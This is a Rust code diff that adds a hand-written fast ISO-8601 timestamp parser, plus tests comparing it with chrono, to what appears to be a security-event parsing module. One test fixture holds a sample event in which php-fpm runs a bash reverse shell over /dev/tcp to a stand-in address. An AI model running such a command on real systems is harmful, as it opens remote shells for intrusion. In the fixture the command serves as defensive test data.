@@ -702,6 +702,9 @@ pub fn parse_time_ns(s: &str) -> Option<i64> {
     if let Ok(f) = s.parse::<f64>() {
         return f.is_finite().then(|| epoch_to_ns(f));
     }
+    if let Some(ns) = parse_iso_fast(s.as_bytes()) {
+        return Some(ns);
+    }
     if let Ok(t) = DateTime::parse_from_rfc3339(s) {
         return t.timestamp_nanos_opt();
     }
@@ -720,6 +723,96 @@ pub fn parse_time_ns(s: &str) -> Option<i64> {
     NaiveDateTime::parse_from_str(trimmed, "%a %b %e %H:%M:%S %Y")
         .ok()
         .and_then(|t| t.and_utc().timestamp_nanos_opt())
+}
+
+/// The layout every collector template uses, parsed by hand (chrono's format-string parser was
+/// ~7 % of an export's CPU): `YYYY-MM-DD[T ]HH:MM:SS[.f{1,9}][Z|±HH[:]MM|±HH]`; no offset is UTC.
+/// Anything else (or an invalid date) returns `None` and goes through the general parsers.
+fn parse_iso_fast(b: &[u8]) -> Option<i64> {
+    fn num(b: &[u8]) -> Option<i64> {
+        b.iter().try_fold(0i64, |acc, &c| {
+            c.is_ascii_digit().then(|| acc * 10 + i64::from(c - b'0'))
+        })
+    }
+    if b.len() < 19
+        || b[4] != b'-'
+        || b[7] != b'-'
+        || !matches!(b[10], b'T' | b' ')
+        || b[13] != b':'
+        || b[16] != b':'
+    {
+        return None;
+    }
+    let (y, mo, d) = (num(&b[0..4])?, num(&b[5..7])?, num(&b[8..10])?);
+    let (h, mi, sec) = (num(&b[11..13])?, num(&b[14..16])?, num(&b[17..19])?);
+    let leap = (y % 4 == 0 && y % 100 != 0) || y % 400 == 0;
+    let month_days = [
+        31,
+        if leap { 29 } else { 28 },
+        31,
+        30,
+        31,
+        30,
+        31,
+        31,
+        30,
+        31,
+        30,
+        31,
+    ];
+    if !(1..=12).contains(&mo)
+        || d < 1
+        || d > month_days[(mo - 1) as usize]
+        || h > 23
+        || mi > 59
+        || sec > 60
+    {
+        return None;
+    }
+    let mut rest = &b[19..];
+    let mut nanos = 0i64;
+    if let [b'.', tail @ ..] = rest {
+        let digits = tail.iter().take_while(|c| c.is_ascii_digit()).count();
+        if digits == 0 || digits > 9 {
+            return None;
+        }
+        nanos = num(&tail[..digits])? * 10i64.pow(9 - digits as u32);
+        rest = &tail[digits..];
+    }
+    let offset_s = match rest {
+        [] | [b'Z'] | [b'z'] => 0,
+        [sign @ (b'+' | b'-'), tz @ ..] => {
+            let (oh, om) = match tz {
+                [a, b] => (num(&[*a, *b])?, 0),
+                [a, b, c, d] => (num(&[*a, *b])?, num(&[*c, *d])?),
+                [a, b, b':', c, d] => (num(&[*a, *b])?, num(&[*c, *d])?),
+                _ => return None,
+            };
+            if oh > 23 || om > 59 {
+                return None;
+            }
+            let o = oh * 3600 + om * 60;
+            if *sign == b'-' {
+                -o
+            } else {
+                o
+            }
+        }
+        _ => return None,
+    };
+    // Days since 1970-01-01 of a proleptic Gregorian date (Howard Hinnant's days_from_civil).
+    let (yy, mm) = if mo <= 2 {
+        (y - 1, mo + 9)
+    } else {
+        (y, mo - 3)
+    };
+    let era = yy.div_euclid(400);
+    let yoe = yy - era * 400;
+    let doy = (153 * mm + 2) / 5 + d - 1;
+    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
+    let days = era * 146_097 + doe - 719_468;
+    let secs = days * 86_400 + h * 3600 + mi * 60 + sec - offset_s;
+    secs.checked_mul(1_000_000_000)?.checked_add(nanos)
 }
 
 /// An integer epoch whose unit is read from its size: s, ms, µs or ns (exact, no float rounding).
@@ -773,6 +866,43 @@ pub fn parse_socket_tuple(s: &str) -> Option<SocketTuple<'_>> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn fast_time_parser_agrees_with_chrono() {
+        let cases = [
+            (
+                "2025-07-10T02:16:41.512093817+0000",
+                "2025-07-10T02:16:41.512093817+00:00",
+            ),
+            ("2025-07-10T02:16:41.5+02:00", "2025-07-10T02:16:41.5+02:00"),
+            ("2025-07-10 02:16:41-0530", "2025-07-10T02:16:41-05:30"),
+            (
+                "2024-02-29T23:59:59.999999999Z",
+                "2024-02-29T23:59:59.999999999Z",
+            ),
+            ("1969-12-31T23:59:59.1Z", "1969-12-31T23:59:59.1Z"),
+            ("2025-07-10T02:16:41", "2025-07-10T02:16:41Z"),
+            ("2000-03-01T00:00:00+01", "2000-03-01T00:00:00+01:00"),
+        ];
+        for (input, rfc3339) in cases {
+            let fast = parse_iso_fast(input.as_bytes()).unwrap_or_else(|| panic!("{input}"));
+            let chrono = DateTime::parse_from_rfc3339(rfc3339)
+                .unwrap()
+                .timestamp_nanos_opt()
+                .unwrap();
+            assert_eq!(fast, chrono, "{input}");
+        }
+        for bad in [
+            "2025-02-30T00:00:00Z",
+            "2025-13-01T00:00:00Z",
+            "2025-07-10T24:00:00Z",
+            "2025-07-10T02:16:41.Z",
+            "2025-07-10T02:16:41+0",
+            "2025-07-10X02:16:41",
+        ] {
+            assert_eq!(parse_iso_fast(bad.as_bytes()), None, "{bad}");
+        }
+    }
 
     const TEMPLATE: &str = r#"{"event":{"evt.num":"88231","evt.time":"2025-07-10T02:16:41.512093817+0000","evt.type":"connect","evt.args":"res=0 tuple=10.0.1.10:40522->203.0.113.66:4444","fd.name":"10.0.1.10:40522->203.0.113.66:4444","proc.pid":"23030","proc.name":"bash","proc.cmdline":"bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1","proc.ppid":"1403","proc.pname":"php-fpm8.1","proc.pcmdline":"php-fpm: pool www"}}"#;
 
